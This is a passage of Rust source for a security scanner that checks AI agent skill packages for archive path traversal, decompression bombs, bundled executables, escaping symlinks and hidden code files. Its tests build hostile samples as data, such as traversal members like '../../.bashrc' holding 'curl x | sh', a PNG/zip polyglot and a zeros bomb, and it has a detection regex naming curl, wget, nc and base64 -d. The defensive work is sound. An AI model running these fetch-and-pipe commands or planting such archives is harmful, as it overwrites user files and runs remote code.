        ));
    } else if l.declared_total >= BOMB_MIN_DECLARED && l.ratio() > BOMB_RATIO {
        f.bomb.push(format!(
            "`{prefix}` expands {}:1 ({} KiB to {declared_mib} MiB)",
            l.ratio(),
            l.packed >> 10
        ));
    }
    for i in &l.issues {
        match i {
            Issue::TooDeep(name) => f.bomb.push(format!(
                "archives nested deeper than {} levels (`{prefix}!{}`)",
                archive::MAX_DEPTH,
                show(name)
            )),
            Issue::Malformed(why) => f.malformed.push(format!("`{prefix}`: {why}")),
            Issue::NameDisagrees {
                central,
                other,
                source,
            } => f.unsafe_high.push(format!(
                "`{}` is `{}` in its {source} ({}): extractors differ on which file they write",
                show(central),
                show(other),
                escapes(other).unwrap_or("another name")
            )),
            Issue::LocalOnly(name) => f.unsafe_high.push(format!(
                "`{}` is named only by a local header, not by the central directory: streaming extractors write a file that directory readers and reviewers never see",
                show(name)
            )),
            Issue::Cut {
                bound,
                unread_members,
                unread_bytes,
            } => f
                .cuts
                .push((prefix.to_owned(), *bound, *unread_members, *unread_bytes)),
        }
    }
    f.members += usize::try_from(l.unlisted).unwrap_or(usize::MAX);
    for m in &l.members {
        f.members += 1;
        let at = format!("{prefix}!{}", show(&m.name));
        if let Some(why) = escapes(&m.name) {
            f.unsafe_high.push(format!("`{}` ({why})", show(&m.name)));
        }
        if matches!(m.kind, MemberKind::Symlink | MemberKind::Hardlink) {
            let kind = if m.kind == MemberKind::Symlink {
                "symlink"
            } else {
                "hard link"
            };
            let target = m.link_target.as_deref().unwrap_or("");
            let line = format!("`{}` -> `{}` ({kind}", show(&m.name), show(target));
            match link_escape(&m.name, target, m.kind == MemberKind::Hardlink) {
                Some(why) => f.unsafe_high.push(format!("{line}, {why})")),
                None => f.unsafe_medium.push(format!("{line})")),
            }
        }
        if m.kind == MemberKind::Other {
            f.unsafe_medium
                .push(format!("`{}` (device or FIFO)", show(&m.name)));
        }
        let ext = ext_of(&m.name);
        if m.kind == MemberKind::File {
            if let Some(desc) = executable(&m.head) {
                f.exe_high.push(format!("`{at}` ({desc})"));
            } else if EXE_EXT.contains(&ext.as_str()) {
                f.exe_medium.push(format!("`{at}`"));
            }
            if SCRIPT_EXT.contains(&ext.as_str()) || has_shebang(&m.head) {
                f.scripts += 1;
            }
        }
        if let Some(n) = &m.nested {
            f.nested += 1;
            walk(&at, n, f);
        }
    }
}

/// One cut, as `content-not-inspected` names it: where (a nested archive; nothing for the
/// archive `top` itself), the bound and its value, and what the archive says was left.
fn describe_cut(top: &str, c: &(String, Bound, Option<u64>, Option<u64>)) -> String {
    let (at, bound, members, bytes) = c;
    let at = if at == top {
        String::new()
    } else {
        format!("in `{at}`, ")
    };
    let left = match (members, bytes) {
        (Some(m), _) => format!("{m} member(s) the archive declares were not read"),
        (None, Some(b)) => format!("{b} more byte(s) that it declares were not decompressed"),
        (None, None) => "how much was left is not known".to_owned(),
    };
    format!(
        "{at}the listing stopped at a bound ({}, `{}`); {left}",
        bound.describe(),
        bound.as_str()
    )
}

fn archive_findings(path: &str, l: &Listing, out: &mut Vec<Emit>) {
    let mut f = ArchiveFacts::default();
    let shown = show(path);
    walk(&shown, l, &mut f);
    if !f.unsafe_high.is_empty() || !f.unsafe_medium.is_empty() {
        let high = !f.unsafe_high.is_empty();
        let all: Vec<String> = f
            .unsafe_high
            .iter()
            .chain(&f.unsafe_medium)
            .cloned()
            .collect();
        let e = Emit::new(
            ARCHIVE_UNSAFE_MEMBER,
            path,
            format!(
                "`{shown}` holds {} member(s) that extract outside their folder or as links: {}. Extracting it can overwrite files anywhere the user can write. Rebuild the archive with relative paths and regular files, or ship the files unpacked.",
                all.len(),
                list_names(&all)
            ),
            "unsafe".into(),
        );
        out.push(if high {
            e
        } else {
            e.severity(Severity::Medium)
        });
    }
    if !f.bomb.is_empty() {
        out.push(Emit::new(
            ARCHIVE_BOMB,
            path,
            format!(
                "`{shown}` is a decompression bomb: {}. Extracting it can exhaust disk and memory. Remove it.",
                list_names(&f.bomb)
            ),
            "bomb".into(),
        ));
    }
    if !f.exe_high.is_empty() || !f.exe_medium.is_empty() {
        let high = !f.exe_high.is_empty();
        let all: Vec<String> = f.exe_high.iter().chain(&f.exe_medium).cloned().collect();
        let e = Emit::new(
            ARCHIVE_CONTAINS_EXECUTABLE,
            path,
            format!(
                "`{shown}` contains {} executable member(s): {}. A binary inside an archive escapes every review. Ship source instead, or remove the archive.",
                all.len(),
                list_names(&all)
            ),
            "exe".into(),
        );
        out.push(if high { e.severity(Severity::High) } else { e });
    }
    let bomb = !f.bomb.is_empty();
    // A bomb explains its own cut (`archive-bomb`, high); any other cut hid content.
    let cut = !f.cuts.is_empty() && !bomb;
    if cut {
        let what: Vec<String> = f.cuts.iter().map(|c| describe_cut(&shown, c)).collect();
        out.push(Emit::new(
            CONTENT_NOT_INSPECTED,
            path,
            format!(
                "`{shown}` was not inspected in full: {}. Nothing past that point was checked by any rule, and the archive's author decides where a bound is hit. Ship the files unpacked (or a smaller archive), or lower this finding for this path in the operator's `.skillguard.toml` with a reason.",
                list_names(&what)
            ),
            format!("{}archive", crate::rules::ids::UNINSPECTED_ANCHOR),
        ));
    }
    if !f.malformed.is_empty() || cut {
        let mut why = f.malformed.clone();
        for c in f.cuts.iter().filter(|_| cut) {
            why.push(format!(
                "`{}`: the listing stopped at a bound ({}), so members after that point were not checked",
                c.0,
                c.1.describe()
            ));
        }
        let e = Emit::new(
            ARCHIVE_UNREADABLE,
            path,
            format!(
                "`{shown}` could not be listed completely: {}. What was listed is reported by the other archive rules; the rest was not checked, and the archive's author decides where a bound is hit, so what lies past it may be what it hides. Rebuild it with a standard tool, or ship the files unpacked.",
                list_names(&why)
            ),
            "unreadable".into(),
        );
        out.push(e);
    }
    let total = l.total_members();
    if total > MANY_MEMBERS {
        out.push(Emit::new(
            ARCHIVE_TOO_MANY_MEMBERS,
            path,
            format!(
                "`{shown}` holds {total} members (nested archives included), more than the {MANY_MEMBERS} any skill needs: thousands of members are how an archive pushes what it hides past scanners and reviewers. Every member was still judged by the other archive rules. Ship the files unpacked, or split the data out of the skill."
            ),
            "many".into(),
        ));
    }
    if !is_document_container(path) {
        let mut extra = Vec::new();
        if f.scripts > 0 {
            extra.push(format!("{} script(s)", f.scripts));
        }
        if f.nested > 0 {
            extra.push(format!("{} nested archive(s)", f.nested));
        }
        let extra = if extra.is_empty() {
            String::new()
        } else {
            format!(", including {}", extra.join(" and "))
        };
        out.push(Emit::new(
            ARCHIVE_BUNDLED,
            path,
            format!(
                "`{shown}` is a bundled {} archive with {} member(s){extra}; its content is invisible to reviewers and to every other rule. Ship the files unpacked in the skill instead.",
                l.format, f.members
            ),
            "bundled".into(),
        ));
    }
}

// ---------------------------------------------------------------------------
// Links, modes, hidden files
// ---------------------------------------------------------------------------

fn symlinks(scx: &SecCx<'_, '_>, out: &mut Vec<Emit>) {
    let skill = scx.cx.skill_path;
    if skill.is_empty() {
        // The skill is the scanned root: leaving it is `symlink-escapes-root`.
        return;
    }
    for fe in scx.cx.files {
        let Some(info) = &fe.symlink else { continue };
        if info.state != LinkState::Inside {
            continue;
        }
        let Some(resolved) = &info.resolved else {
            continue;
        };
        let inside = resolved == skill
            || resolved
                .strip_prefix(skill)
                .is_some_and(|r| r.starts_with('/'));
        if inside {
            continue;
        }
        out.push(Emit::new(
            SYMLINK_ESCAPES_SKILL,
            &fe.path,
            format!(
                "`{}` is a symlink to `{}`, which resolves to `{}` outside the skill folder: a harness that copies or installs the skill loses the file or picks up whatever that path holds on the user's machine, and the reviewed skill is not what runs. Replace the link with a copy of the file.",
                show(&fe.path),
                show(&info.target),
                show(resolved)
            ),
            "link-escape".into(),
        ));
    }
}

/// Extensions whose files are never run directly.
const NON_SCRIPT_EXT: &[&str] = &[
    "md", "markdown", "mdx", "txt", "text", "rst", "json", "jsonl", "yaml", "yml", "toml", "csv",
    "tsv", "xml", "html", "htm", "css", "svg", "png", "jpg", "jpeg", "gif", "webp", "bmp", "ico",
    "pdf", "docx", "xlsx", "pptx", "doc", "xls", "ppt", "ttf", "otf", "woff", "woff2", "mp3",
    "mp4", "wav", "lock", "ini", "cfg", "conf", "log", "zip", "gz", "tgz", "tar",
];

fn executable_bits(scx: &SecCx<'_, '_>, bytes_of: &HashMap<&str, &[u8]>, out: &mut Vec<Emit>) {
    let mut hits: Vec<&str> = Vec::new();
    for fe in scx.cx.files {
        if !fe.executable || fe.symlink.is_some() {
            continue;
        }
        if matches!(
            fe.kind,
            FileKind::Script | FileKind::Special | FileKind::Symlink
        ) {
            continue;
        }
        if !NON_SCRIPT_EXT.contains(&ext_of(&fe.path).as_str()) {
            continue;
        }
        let bytes = bytes_of.get(fe.path.as_str()).copied();
        if bytes.is_some_and(|b| has_shebang(b) || executable(b).is_some()) {
            continue;
        }
        hits.push(&fe.path);
    }
    if let Some(first) = hits.first() {
        let names: Vec<String> = hits.iter().map(|p| format!("`{}`", show(p))).collect();
        out.push(Emit::new(
            EXECUTABLE_NON_SCRIPT,
            first,
            format!(
                "{} file(s) that are not programs have the executable bit set: {}. Nothing should execute a document or image; the bit hints at content that is not what its name says, or at a careless copy. Clear it (`chmod -x`).",
                hits.len(),
                list_names(&names)
            ),
            "exec-bit".into(),
        ));
    }
}

/// Hidden files and folders that are ordinary project configuration.
fn benign_hidden(name: &str, is_dir: bool) -> bool {
    if is_dir {
        return matches!(
            name,
            ".github"
                | ".gitlab"
                | ".vscode"
                | ".idea"
                | ".devcontainer"
                | ".circleci"
                | ".changeset"
                | ".storybook"
        );
    }
    const FILES: &[&str] = &[
        ".gitignore",
        ".gitattributes",
        ".gitkeep",
        ".gitmodules",
        ".keep",
        ".mailmap",
        ".editorconfig",
        ".npmignore",
        ".npmrc",
        ".nvmrc",
        ".node-version",
        ".python-version",
        ".ruby-version",
        ".tool-versions",
        ".dockerignore",
        ".prettierignore",
        ".eslintignore",
        ".env.example",
        ".env.sample",
        ".env.template",
        ".DS_Store",
        ".flake8",
        ".pylintrc",
        ".coveragerc",
        ".browserslistrc",
        ".babelrc",
        ".clang-format",
        ".pre-commit-config.yaml",
        ".rubocop.yml",
        ".ruff.toml",
        ".gitleaksignore",
    ];
    FILES.contains(&name)
        || name.starts_with("._")
        || [
            ".prettierrc",
            ".eslintrc",
            ".stylelintrc",
            ".markdownlint",
            ".yamllint",
        ]
        .iter()
        .any(|p| name.starts_with(p))
}

static CODE_LINE: LazyLock<Regex> = LazyLock::new(|| {
    crate::security::model::datarules::re(
        r"(?m)^\s*(import\s+\w|from\s+[\w.]+\s+import\b|def\s+\w+\s*\(|function\s+\w+\s*\(|(const|let|var)\s+\w+\s*=|require\s*\(|(curl|wget)\s+\S|eval\s|exec\s*\(|os\.system|subprocess\.|Invoke-\w+|powershell\b|chmod\s+\+x|base64\s+-d|nc\s+-)",
    )
});

fn looks_like_code(path: &str, b: &[u8]) -> bool {
    let head = &b[..b.len().min(4096)];
    if Lang::of_path(path, head).is_code() || has_shebang(head) || executable(b).is_some() {
        return true;
    }
    if head.contains(&0) {
        return false;
    }
    CODE_LINE
        .find_iter(&String::from_utf8_lossy(head))
        .take(2)
        .count()
        >= 2
}

fn hidden(scx: &SecCx<'_, '_>, bytes_of: &HashMap<&str, &[u8]>, out: &mut Vec<Emit>) {
    // Grouped by the first hidden component: one finding per hidden folder.
    let mut groups: BTreeMap<String, (bool, Vec<&FileEntry>)> = BTreeMap::new();
    for fe in scx.cx.files {
        let parts: Vec<&str> = fe.path.split('/').collect();
        let Some(i) = parts
            .iter()
            .position(|p| p.starts_with('.') && *p != "." && *p != "..")
        else {
            continue;
        };
        let is_dir = i + 1 < parts.len();
        if benign_hidden(parts[i], is_dir) {
            continue;
        }
        let key = parts[..=i].join("/");
        groups.entry(key).or_insert((is_dir, Vec::new())).1.push(fe);
    }
    for (key, (is_dir, files)) in groups {
        let mut code = Vec::new();
        for fe in &files {
            let bytes = bytes_of.get(fe.path.as_str()).copied();
            let is_code = fe.kind == FileKind::Script
                || fe.kind == FileKind::Binary && bytes.is_some_and(|b| executable(b).is_some())
                || bytes.is_some_and(|b| looks_like_code(&fe.path, b));
            if is_code {
                code.push(*fe);
            }
        }
        for fe in &code {
            out.push(Emit::new(
                HIDDEN_FILE_WITH_CODE,
                &fe.path,
                format!(
                    "`{}` is a hidden {} that contains code: file browsers and most reviews skip dotfiles, yet a script or the agent can run it. Move it to a visible path (such as `scripts/`) or remove it.",
                    show(&fe.path),
                    if is_dir { "folder's file" } else { "file" }
                ),
                "hidden-code".into(),
            ));
        }
        if code.is_empty() {
            let first = files.first().map_or(key.as_str(), |f| f.path.as_str());
            let what = if is_dir {
                format!("hidden folder `{}/` ({} file(s))", show(&key), files.len())
            } else {
                format!("hidden file `{}`", show(&key))
            };
            out.push(Emit::new(
                HIDDEN_FILE,
                first,
                format!(
                    "the skill contains a {what}: dotfiles are skipped by file browsers and most reviews. Move it to a visible path if the skill needs it, or remove it."
                ),
                "hidden".into(),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ELF64: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";

    fn pe() -> Vec<u8> {
        let mut v = vec![0u8; 0x100];
        v[..2].copy_from_slice(b"MZ");
        v[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        v[0x80..0x84].copy_from_slice(b"PE\0\0");
        v[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
        v
    }

    #[test]
    fn executables_by_magic() {
        assert_eq!(
            executable(ELF64).as_deref(),
            Some("ELF 64-bit x86-64 executable")
        );
        assert_eq!(
            executable(&pe()).as_deref(),
            Some("Windows PE x86-64 executable")
        );
        // MZ without a PE header is not byte-certain.
        assert_eq!(executable(b"MZ this is text"), None);
        assert_eq!(
            executable(&[0xcf, 0xfa, 0xed, 0xfe, 0x0c, 0, 0, 0x01]).as_deref(),
            Some("Mach-O arm64")
        );
        assert_eq!(
            executable(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]).as_deref(),
            Some("Mach-O universal binary, 2 architecture(s)")
        );
        // A Java class file shares CAFEBABE.
        assert_eq!(executable(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), None);
        assert_eq!(
            detect(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
            Some(Format::JavaClass)
        );
        assert_eq!(executable(b"\x7fELF"), None);
        assert_eq!(executable(b""), None);
    }

    fn mismatch(path: &str, b: &[u8]) -> Option<(bool, String)> {
        let mut out = Vec::new();
        let exe = executable(b);
        extension_mismatch(path, b, exe.as_deref(), &mut out);
        out.pop()
            .map(|e| (e.sev == Some(Severity::High), e.message))
    }

    #[test]
    fn extension_mismatches() {
        assert_eq!(mismatch("a/logo.png", ELF64).map(|m| m.0), Some(true));
        let (high, msg) = mismatch("a/logo.jpg", b"#!/bin/sh\ncurl x | sh\n").unwrap();
        assert!(high && msg.contains("#!/bin/sh"), "{msg}");
        assert_eq!(
            mismatch("notes.txt", b"PK\x03\x04rest").map(|m| m.0),
            Some(false)
        );
        assert_eq!(mismatch("doc.pdf", b"<html>").map(|m| m.0), Some(false));
        // Fine: matching magic, image swaps, text without magic, LFS pointers.
        assert!(mismatch("logo.png", b"\x89PNG\r\n\x1a\nxx").is_none());
        assert!(mismatch("photo.png", b"\xff\xd8\xff\xe0").is_none());
        assert!(mismatch("doc.pdf", b"\n\n%PDF-1.7").is_none());
        assert!(mismatch("notes.txt", b"hello").is_none());
        assert!(mismatch("report.docx", b"PK\x03\x04").is_none());
        assert!(
            mismatch(
                "logo.png",
                b"version https://git-lfs.github.com/spec/v1\noid sha256:ab\n"
            )
            .is_none()
        );
        assert!(mismatch("tool", ELF64).is_none());
        assert!(mismatch("empty.png", b"").is_none());
    }

    #[test]
    fn archive_member_escapes() {
        assert_eq!(
            escapes("../x"),
            Some("`..` climbs out of the extraction folder")
        );
        assert_eq!(
            escapes("a/../../x"),
            Some("`..` climbs out of the extraction folder")
        );
        assert_eq!(escapes("a/../x"), None);
        assert_eq!(escapes("/etc/passwd"), Some("absolute path"));
        assert_eq!(escapes("C:\\Windows\\x"), Some("drive-letter path"));
        assert_eq!(
            escapes("..\\evil"),
            Some("`..` climbs out of the extraction folder")
        );
        assert_eq!(escapes("skill/SKILL.md"), None);
        assert!(link_escape("skill/l", "../../etc", false).is_some());
        assert!(link_escape("skill/l", "../other/file", false).is_none());
        assert!(link_escape("skill/l", "/etc/passwd", false).is_some());
        assert!(link_escape("skill/h", "skill/file", true).is_none());
    }

    /// 40 MiB of zeros deflated: a bomb by its ratio.
    fn zeros_bomb() -> Vec<u8> {
        use archive::build::*;
        zip(&[ZipMember {
            name: "zeros.bin",
            data: &vec![0u8; 40 << 20],
            mode: 0,
            deflate: true,
            declared: None,
        }])
    }

    #[test]
    fn archive_findings_by_severity() {
        use archive::build::*;
        let z = zip(&[
            file("s/SKILL.md", b"# x"),
            file("../../.bashrc", b"evil"),
            file("s/bin/tool", ELF64),
            file("s/run.py", b"print(1)"),
        ]);
        let l = archive::list(&z).unwrap();
        let mut out = Vec::new();
        archive_findings("bundle.zip", &l, &mut out);
        let rules: Vec<(&str, Option<Severity>)> = out.iter().map(|e| (e.rule, e.sev)).collect();
        assert_eq!(
            rules,
            [
                (ARCHIVE_UNSAFE_MEMBER, None),
                (ARCHIVE_CONTAINS_EXECUTABLE, Some(Severity::High)),
                (ARCHIVE_BUNDLED, None),
            ],
            "{:#?}",
            out.iter().map(|e| &e.message).collect::<Vec<_>>()
        );
        assert!(
            out[2]
                .message
                .contains("4 member(s), including 1 script(s)")
        );
        // A bomb: declared sizes far beyond the packed size.
        let z = zeros_bomb();
        let l = archive::list(&z).unwrap();
        let mut out = Vec::new();
        archive_findings("data.zip", &l, &mut out);
        assert!(
            out.iter().any(|e| e.rule == ARCHIVE_BOMB),
            "{}",
            out[0].message
        );
        // Malformed: reported, not a crash.
        let l = archive::list(&z[..z.len() - 30]).unwrap();
        let mut out = Vec::new();
        archive_findings("cut.zip", &l, &mut out);
        assert!(out.iter().any(|e| e.rule == ARCHIVE_UNREADABLE));
    }

    #[test]
    fn padding_an_archive_hides_nothing() {
        use archive::build::*;
        // 10,000 empty members ahead of what an attacker wants hidden.
        let names: Vec<String> = (0..archive::MAX_MEMBERS)
            .map(|i| format!("p/{i}"))
            .collect();
        let mut members: Vec<ZipMember<'_>> = names.iter().map(|n| file(n, b"")).collect();
        members.push(file("../../home/u/.bashrc", b"curl x | sh"));
        members.push(file("s/data.bin", ELF64));
        let z = zip(&members);
        let l = archive::list_with(&z, notable_member).unwrap();
        let mut out = Vec::new();
        archive_findings("pad.zip", &l, &mut out);
        let rules: Vec<(&str, Option<Severity>)> = out.iter().map(|e| (e.rule, e.sev)).collect();
        assert_eq!(
            rules,
            [
                (ARCHIVE_UNSAFE_MEMBER, None),
                (ARCHIVE_CONTAINS_EXECUTABLE, Some(Severity::High)),
                (ARCHIVE_TOO_MANY_MEMBERS, None),
                (ARCHIVE_BUNDLED, None),
            ],
            "{:#?}",
            out.iter().map(|e| &e.message).collect::<Vec<_>>()
        );
        assert!(out[0].message.contains("home/u/.bashrc"));
        assert!(
            out[3].message.contains("10002 member(s)"),
            "{}",
            out[3].message
        );
        assert!(
            out[2].message.contains("10002 members"),
            "{}",
            out[2].message
        );
    }

    #[test]
    fn archives_are_recognised_by_their_bytes() {
        let mut iso = vec![0u8; 40_000];
        iso[32769..32774].copy_from_slice(b"CD001");
        let mut dmg = vec![0u8; 2_000];
        let at = dmg.len() - 512;
        dmg[at..at + 4].copy_from_slice(b"koly");
        for (bytes, want) in [
            (b"\x28\xb5\x2f\xfd\0\0".to_vec(), "zstd stream"),
            (b"\x04\x22\x4d\x18\0\0".to_vec(), "LZ4 stream"),
            (b"LZIP\x01\0".to_vec(), "lzip stream"),
            (b"\x1f\x9d\x90\0".to_vec(), "Unix compress (.Z) stream"),
            (b"07070100000001000081a4".to_vec(), "cpio archive"),
            (
                b"\xc7\x71\0\0\0\0\xa4\x81\0\0\0\0\0\0\0\0\0\0\0\0\x0e\0\x05\0\0\0../../evil.sh\0#!/bin/sh".to_vec(),
                "cpio archive",
            ),
            (
                b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x10".to_vec(),
                "LZMA stream",
            ),
            (
                b"!<arch>\ndebian-binary".to_vec(),
                "ar archive (or Debian package)",
            ),
            (b"\xed\xab\xee\xdb\x03\0".to_vec(), "RPM package"),
            (b"MSCF\0\0\0\0\x10\0".to_vec(), "Windows cabinet"),
            (b"hsqs\0\0\0\0".to_vec(), "SquashFS image"),
            (iso, "ISO 9660 disk image"),
            (dmg, "Apple disk image"),
            (b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), "7-Zip archive"),
        ] {
            assert_eq!(unlisted_archive_format(&bytes), Some(want));
        }
        // Text that merely starts like one of them is not.
        for t in [
            &b"070701 is a number"[..],
            b"LZIP is a format",
            b"MSCF",
            b"]\0\0 bracket text",
            b"\xc7\x71 not a header",
        ] {
            assert_eq!(
                unlisted_archive_format(t),
                None,
                "{:?}",
                String::from_utf8_lossy(t)
            );
        }
    }

    #[test]
    fn a_zip_behind_leading_bytes_is_found() {
        use super::archive::build::{file, zip};
        let zip = zip(&[file("../../evil.sh", b"id\n")]);
        let mut polyglot = b"\x89PNG\r\n\x1a\n".to_vec();
        polyglot.extend(std::iter::repeat_n(0u8, 5_000));
        let at = polyglot.len();
        polyglot.extend_from_slice(&zip);
        assert_eq!(embedded_zip(&polyglot), Some(at));
        // A zip from its first byte is listed as a zip; an image alone holds none.
        assert_eq!(embedded_zip(&zip), None);
        assert_eq!(embedded_zip(&polyglot[..at]), None);
    }

    #[test]
    fn a_cut_listing_is_content_not_inspected() {
        use archive::build::*;
        let z = zip(&[file("a.txt", b"x")]);
        let mut l = archive::list(&z).unwrap();
        l.issues.push(archive::Issue::Cut {
            bound: Bound::Inflate,
            unread_members: None,
            unread_bytes: Some(12_345),
        });
        let mut out = Vec::new();
        archive_findings("big.zip", &l, &mut out);
        let e = out
            .iter()
            .find(|e| e.rule == CONTENT_NOT_INSPECTED)
            .unwrap();
        assert_eq!(e.sev, None, "the catalog's high");
        assert!(
            e.message.contains("64 MiB decompressed")
                && e.message.contains("12345 more byte(s)")
                && e.message.contains("`big.zip`"),
            "{}",
            e.message
        );
        assert_eq!(e.anchor, "uninspected-archive");
        // The old rule still says it, to be attached as a consequence.
        let u = out.iter().find(|e| e.rule == ARCHIVE_UNREADABLE).unwrap();
        assert!(u.message.contains("stopped at a bound"), "{}", u.message);
        // A bomb explains its own cut: no second finding.
        let z = zeros_bomb();
        let mut l = archive::list(&z).unwrap();
        l.issues.push(archive::Issue::Cut {
            bound: Bound::Inflate,
            unread_members: None,
            unread_bytes: None,
        });
        let mut out = Vec::new();
        archive_findings("bomb.zip", &l, &mut out);
        assert!(out.iter().any(|e| e.rule == ARCHIVE_BOMB));
        assert!(!out.iter().any(|e| e.rule == CONTENT_NOT_INSPECTED));
    }

    #[test]
    fn hidden_allow_list() {
        assert!(benign_hidden(".gitignore", false));
        assert!(benign_hidden(".prettierrc.json", false));
        assert!(benign_hidden(".github", true));
        assert!(!benign_hidden(".env", false));
        assert!(!benign_hidden(".cache", true));
        assert!(looks_like_code(".helper", b"#!/bin/sh\necho\n"));
        assert!(looks_like_code(".x.py", b"x = 1\n"));
        assert!(looks_like_code(
            ".data",
            b"import os\nos.system('curl evil | sh')\n"
        ));
        assert!(!looks_like_code(
            ".notes",
            b"just some notes\nimport nothing\n"
        ));
    }
}
